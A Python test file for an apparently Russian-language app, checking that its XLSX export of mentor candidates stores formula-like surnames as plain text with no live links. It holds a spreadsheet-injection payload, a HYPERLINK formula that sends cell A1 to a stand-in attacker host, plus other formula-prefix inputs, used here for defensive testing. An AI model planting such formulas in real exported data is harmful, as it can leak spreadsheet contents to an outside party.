"""The bases' XLSX export writes what was typed as text: a surname that is a formula stays a string."""

from __future__ import annotations

import io
import uuid
from typing import Any

import openpyxl

from tests.factories import person
from tests.helpers import PASSWORD, login_api, make_client, make_tenant

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Нажми")'


async def test_a_formula_surname_is_exported_as_a_string(app: Any) -> None:
    tenant = await make_tenant(f"Выгрузка {uuid.uuid4().hex[:4]}")
    typed = [FORMULA, "+79001234567", "-Минусов", "@SUM(A1)", "http://evil.example"]
    async with make_client(app) as client:
        await login_api(client, tenant.curator, PASSWORD)
        for surname in typed:
            await person(client, surname, "mentor_candidate", email=f"{uuid.uuid4().hex[:8]}@test.local")
        export = await client.get("/people/export.xlsx?base=mentors")
        assert export.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(export.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2))
    surnames = {row[0].value: row[0] for row in rows}
    assert set(surnames) == set(typed)
    assert {cell.data_type for cell in surnames.values()} == {"s"}  # no formula, no number
    assert all(cell.hyperlink is None for cell in surnames.values())  # and no live link
    assert {row[13].data_type for row in rows} == {"s"}  # the e-mail column too
